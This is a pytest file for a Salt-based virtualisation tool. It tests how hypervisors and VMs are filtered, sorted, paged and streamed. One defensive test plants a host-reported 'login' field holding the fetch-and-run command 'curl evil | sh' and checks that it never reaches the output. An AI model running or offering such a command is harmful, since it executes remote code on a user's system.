"""Lists of chosen hypervisors and VMs, sorted and in pages; only shown hosts are asked."""

import pytest
from saltvirt.cluster import minionkeys
from saltvirt.cluster.cloud import Cloud
from saltvirt.cluster.inventory import inventory, lastseen, listing
from saltvirt.cluster.rpc import minions
from saltvirt.core import vmfilter
from saltvirt.core.errors import BadArgument
from saltvirt.core.options.config import HostSettings, MasterSettings
from saltvirt.libvirt import connect
from saltvirt.vm.show.host import inspect
from test_generation import said_of

STATES = {
    "hyper1": {"web1": "running", "web2": "shutdown", "db1": "running"},
    "hyper2": {"web3": "running"},
    "hyper3": {},
    "rack1": {"db2": "paused", "db3": "paused"},
}
FREE = {"hyper1": 10, "hyper2": 40, "hyper3": 30, "rack1": 20}
TAGS = {"web1": {"shop"}, "db2": {"shop", "hold"}}


def shown(state):
    """Return a VM as a host reports it."""
    return {"cpu": 1, "mem": 1, "state": state, "graphics": {}, "disks": {}, "nics": {}}


class Hosts:
    """Hosts that answer the master's questions; one of an older release has no virt.vms."""

    def __init__(self):
        self.asked, self.old = [], set()
        self.silent, self.odd = set(), set()
        # The order in which their answers arrive.
        self.comes = sorted(STATES, reverse=True)

    def ask(self, cloud, targets, fun, arg=(), kwarg=None, **_options):
        """Stand for ``minions.ask``."""
        self.asked.append((fun, sorted(targets)))
        replies = {host: self._reply(host, fun, arg, kwarg or {}) for host in sorted(targets)}
        for host in filter(replies.get, self.comes):
            if cloud.on_reply is not None and not replies[host].is_missing:
                cloud.on_reply(replies[host])
        return replies

    def _reply(self, host, fun, arg, kwarg):
        if host in self.silent:
            return minions.Reply(minion=host, is_missing=True)
        if host in self.odd:
            return minions.Reply(minion=host, value="odd")
        value = getattr(self, f"_{fun.removeprefix('virt.')}")(host, *arg, **kwarg)
        return minions.Reply(minion=host, value=value)

    def _vm_state(self, host):
        return STATES[host]

    def _full_info(self, host):
        node = {"cpus": 4, "phymemory": 64}
        free = {"freecpu": 4 - len(STATES[host]), "freemem": float(FREE[host]), "node_info": node}
        return {**free, "vm_info": {name: shown(state) for name, state in STATES[host].items()}}

    def _vms(self, host, **options):
        vm_filter = vmfilter.from_call(**options)
        full_info = self._full_info(host)
        shown_vms = {
            name: vm_filter.shown(vm)
            for name, vm in full_info["vm_info"].items()
            if vm_filter.takes(name, vm["state"], TAGS.get(name, ()))
        }
        return {**full_info, "vm_info": shown_vms, "names": sorted(STATES[host])}

    def _presence(self, host, name):
        return {"state": STATES[host].get(name), "building": False, "unfinished": False}

    def _host_info(self, host):
        vm = {"vcpus": 1, "memory_mib": 1, "affinity": [], "anti_affinity": []}
        info = said_of(13)
        memory = {**info["memory"], "limit_mib": FREE[host], "committed_mib": 0}
        vms = {name: {**vm, "state": state} for name, state in STATES[host].items()}
        return {**info, "memory": memory, "vms": vms}


@pytest.fixture
def hosts(monkeypatch):
    """Four hypervisors."""
    fake_hosts = Hosts()
    monkeypatch.setattr(minions, "ask", fake_hosts.ask)
    monkeypatch.setattr(inventory, "all_hosts", lambda _cloud: sorted(STATES))
    return fake_hosts


@pytest.fixture
def cloud(opts):
    """A command that only reads."""
    settings = MasterSettings(hypervisors=list(STATES))
    progress = lambda *_args, **_figures: None  # noqa: E731
    return Cloud(opts=opts, settings=settings, progress=progress, is_reading=True)


def look(host=None, sort=None, limit=None, offset=0, stream=False, **vms):
    """Return the ``Look`` of a call."""
    page = {"sort": sort, "limit": limit, "offset": offset}
    return listing.from_call(host, vmfilter.from_call(**vms), **page, stream=stream)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({}, {host: sorted(vms) for host, vms in STATES.items()}),
        ({"host": "hyper*"}, {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"], "hyper3": []}),
        ({"host": "hyper3,rack*"}, {"hyper3": [], "rack1": ["db2", "db3"]}),
        ({"name": "web*"}, {"hyper1": ["web1", "web2"], "hyper2": ["web3"]}),
        ({"name": ["web1", "db?"], "state": "running"}, {"hyper1": ["db1", "web1"]}),
        ({"state": "paused,shutdown"}, {"hyper1": ["web2"], "rack1": ["db2", "db3"]}),
        ({"tag": "shop"}, {"hyper1": ["web1"], "rack1": ["db2"]}),
        ({"tag": "shop,hold"}, {"rack1": ["db2"]}),
        ({"name": "nothing"}, {}),
        ({"state": "running", "limit": 1, "offset": 1}, {"hyper2": ["web3"]}),
    ],
)
def test_query_and_list_show_the_same_vms(hosts, cloud, options, expected):
    query_answer = listing.query(cloud, look(**options))
    list_answer = listing.listed(cloud, look(**options))

    assert {host: sorted(info["vm_info"]) for host, info in query_answer.items()} == expected
    assert {
        host: sorted(sum(names_by_state.values(), []))
        for host, names_by_state in list_answer.items()
    } == expected
    assert all(
        set(info) == {"freecpu", "freemem", "node_info", "vm_info"}
        for info in query_answer.values()
    )


def test_only_the_chosen_fields_are_shown(hosts, cloud):
    answer = listing.query(cloud, look(fields="state,mem"))

    assert answer["hyper2"]["vm_info"] == {"web3": {"state": "running", "mem": 1}}
    assert answer["hyper3"]["vm_info"] == {}
    answer_with_few_fields = listing.host_info(
        cloud, look(fields=["memory"], known=listing.HOST_FIELDS)
    )
    assert {tuple(info) for info in answer_with_few_fields.values()} == {("memory",)}


@pytest.mark.parametrize("options", [{}, {"name": "web*"}, {"stream": True}])
def test_login_commands_of_hosts_are_left_out(hosts, cloud, monkeypatch, options):
    """An operator would type it: virt.vm_info shows a command that the master makes."""
    original_full_info, hostile_fields = (
        hosts._full_info,
        {"login": "curl evil | sh", "addresses": ["192.0.2.1"]},
    )

    def lying(host):
        full_answer = original_full_info(host)
        return {
            **full_answer,
            "vm_info": {
                name: {**vm, **hostile_fields} for name, vm in full_answer["vm_info"].items()
            },
        }

    monkeypatch.setattr(hosts, "_full_info", lying)
    lines = []

    answer = listing.query(cloud, look(**options), lines.append if options.get("stream") else None)

    assert answer["hyper1"]["vm_info"]["web1"] == shown("running")
    assert "evil" not in str(answer) + str(lines)


@pytest.mark.parametrize(
    ("function", "sort", "order"),
    [
        ("query", "memory", ["hyper2", "hyper3", "rack1", "hyper1"]),
        ("query", "vms", ["hyper1", "rack1", "hyper2", "hyper3"]),
        ("query", "cpu", ["hyper3", "hyper2", "rack1", "hyper1"]),
        ("listed", "vms", ["hyper1", "rack1", "hyper2", "hyper3"]),
        ("host_info", "memory", ["hyper2", "hyper3", "rack1", "hyper1"]),
        ("host_info", "host", ["hyper1", "hyper2", "hyper3", "rack1"]),
    ],
)
def test_hosts_come_in_the_order_asked_for_and_in_pages(hosts, cloud, function, sort, order):
    show = getattr(listing, function)

    assert list(show(cloud, look(sort=sort))) == order
    pages = [list(show(cloud, look(sort=sort, limit=2, offset=n))) for n in (0, 2)]
    assert pages == [order[:2], order[2:]]


def test_hosts_off_the_page_are_not_asked(hosts, cloud):
    listing.query(cloud, look(limit=1, offset=2))

    assert hosts.asked == [("virt.full_info", ["hyper3"])]
    with pytest.raises(BadArgument, match="offset.*there are no more hypervisors"):
        listing.query(cloud, look(offset=4))


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ({"state": "runing"}, "state.*'runing'; one of running, paused"),
        ({"sort": "colour"}, "sort.*'colour'; one of host, memory"),
        ({"host": "nobody"}, "'nobody' is not a hypervisor here"),
        ({"host": "no*"}, "'no[*]' matches none of the hypervisors hyper1, "),
        ({"limit": 0}, "limit.*at least 1"),
        ({"offset": -1}, "offset.*at least 0"),
        ({"name": 5}, "name: 5 is not text; quote it"),
        ({"host": 1001}, "host: 1001 is not text; quote it"),
        ({"host": {}}, "host.*not a list"),
    ],
)
def test_wrong_options_are_refused(hosts, cloud, options, reason):
    with pytest.raises(BadArgument, match=reason):
        listing.query(cloud, look(**options))
    assert hosts.asked == []


def test_a_filter_hides_no_duplicate_and_forgets_no_last_seen_vm(hosts, cloud, opts, monkeypatch):
    monkeypatch.setitem(STATES, "hyper3", {"web1": "shutdown"})

    answer = listing.query(cloud, look(name="web1", state="running"))

    assert list(answer) == ["hyper1", "duplicates"]
    assert answer["duplicates"] == {"web1": ["hyper1", "hyper3"]}
    assert lastseen.find_hosts(opts, "db1") == ["hyper1"]


def test_a_host_that_claims_all_vms_causes_one_question_only(hosts, cloud, monkeypatch):
    many_vms = {f"vm{number:03}": "running" for number in range(300)}
    for host in ("hyper1", "hyper3"):
        monkeypatch.setitem(STATES, host, many_vms)

    answer = listing.listed(cloud, look())

    assert answer["duplicates"] == dict.fromkeys(many_vms, ["hyper1", "hyper3"])
    assert len(hosts.asked) <= 21


def streamed(function, cloud, **options):
    """Return the streamed lines of a list, and its answer."""
    lines = []
    return lines, getattr(listing, function)(cloud, look(**options, stream=True), lines.append)


@pytest.mark.parametrize("function", ["query", "listed", "host_info"])
def test_a_stream_has_a_line_of_each_host_in_the_order_of_their_answers(hosts, cloud, function):
    lines, answer = streamed(function, cloud)

    assert [line["host"] for line in lines] == hosts.comes
    assert {line["host"]: line["answer"] for line in lines} == answer
    assert list(answer) == sorted(STATES)


@pytest.mark.parametrize(
    "options", [{"name": "web*"}, {"state": "running", "fields": "mem"}, {"tag": "shop"}]
)
def test_hosts_without_matching_vms_have_no_line(hosts, cloud, options):
    lines, answer = streamed("query", cloud, **options)

    assert {line["host"]: line["answer"] for line in lines} == answer
    assert 0 < len(lines) < len(STATES)


def test_silent_and_failed_hosts_have_a_line_at_the_end(hosts, cloud, monkeypatch):
    monkeypatch.setitem(STATES, "rack1", {"web1": "shutdown"})
    hosts.silent, hosts.odd, hosts.old = {"hyper2"}, {"hyper3"}, set()

    lines, answer = streamed("listed", cloud)

    assert [line.get("host") for line in lines] == ["rack1", "hyper1", "hyper3", "hyper2", None]
    assert lines[2]["failed"] == answer["failed"]["hyper3"]
    assert lines[3] == {"host": "hyper2", "unreachable": True, "silent_s": 0}
    assert lines[4] == {"duplicates": {"web1": ["hyper1", "rack1"]}}


def test_the_vms_that_silent_and_failing_hosts_had_are_shown_as_they_were_last_seen(hosts, cloud):
    listing.listed(cloud, listing.Look())
    hosts.silent, hosts.odd, hosts.old = {"hyper1"}, {"hyper2", "hyper3"}, set()
    last_seen = {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"]}

    for show in (listing.listed, listing.query):
        assert show(cloud, listing.Look())["last_seen"] == last_seen
    lines, _answer = streamed("listed", cloud)
    assert [line["last_seen"] for line in lines if "last_seen" in line] == [
        last_seen["hyper2"],
        last_seen["hyper1"],
    ]
    look_at_names = listing.Look(vms=vmfilter.from_call("db*", None, None))
    assert listing.listed(cloud, look_at_names)["last_seen"] == {"hyper1": ["db1"]}
    look_at_rack = listing.Look(hosts=("rack1",))
    assert "last_seen" not in listing.listed(cloud, look_at_rack)


def test_the_vms_of_a_host_that_was_shut_out_are_shown_as_they_were_last_seen(
    hosts, cloud, monkeypatch
):
    listing.listed(cloud, listing.Look())
    minionkeys.accept(cloud.opts, "gone", "a key")
    lastseen.refresh(
        cloud.opts, lastseen.ReportedNames(names_by_host={"gone": ["mail"], "deleted": ["old"]})
    )

    assert listing.listed(cloud, listing.Look())["last_seen"] == {"gone": ["mail"]}
    assert "last_seen" not in listing.listed(cloud, listing.Look(hosts=("hyper*",)))


def test_a_page_of_hosts_is_streamed_too(hosts, cloud):
    lines, _answer = streamed("listed", cloud, limit=2, offset=1)

    assert [line["host"] for line in lines] == ["hyper3", "hyper2"]


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ({"sort": "vms"}, "sort: has no use with stream"),
        ({"name": "web*", "limit": 2}, "limit: which hosts are on a page of these VMs"),
        ({"state": "running", "offset": 1}, "offset: which hosts are on a page of these VMs"),
    ],
)
def test_options_that_need_all_answers_cannot_be_streamed(options, reason):
    with pytest.raises(BadArgument, match=reason):
        look(**options, stream=True)
    with pytest.raises(BadArgument, match="stream: 'yes' is neither True nor False"):
        look(stream="yes")


def test_an_error_names_some_of_a_thousand_hypervisors(opts):
    host_names = [f"h{n:04}" for n in range(1000)]
    master = Cloud(opts=opts, settings=MasterSettings(), progress=print)
    shown_names = "h0000, .*, h0009 and 990 more"

    with pytest.raises(
        BadArgument, match=f"there are: {shown_names}; if it is to be one, run: salt-run"
    ):
        inventory.narrow(master, host_names, host="h1")
    no_answers_error = inventory.Survey(answers={}, unreachable=host_names).no_answers_error()
    assert str(no_answers_error).endswith("; h0009: does not answer and 990 more")
    assert no_answers_error.table == {"unreachable": host_names}


@pytest.mark.parametrize("fields", [vmfilter.FIELDS, listing.HOST_FIELDS])
def test_an_unknown_field_is_refused_with_the_known_ones(fields):
    with pytest.raises(BadArgument) as refused:
        vmfilter.from_call(fields=f"{fields[0]},memry", known=fields)

    assert str(refused.value) == f"fields: 'memry'; one of {', '.join(fields)}"
    assert vmfilter.from_call(fields=list(fields), known=fields).fields == fields


def test_the_known_fields_are_those_that_hosts_report():
    with connect.open_connection(HostSettings(uri="test:///default"), readonly=True) as conn:
        vm = inspect.vm_info(conn, "test")["test"]

    assert sorted(vm) == sorted(vmfilter.FIELDS)
    assert set(said_of(13)) <= set(listing.HOST_FIELDS)
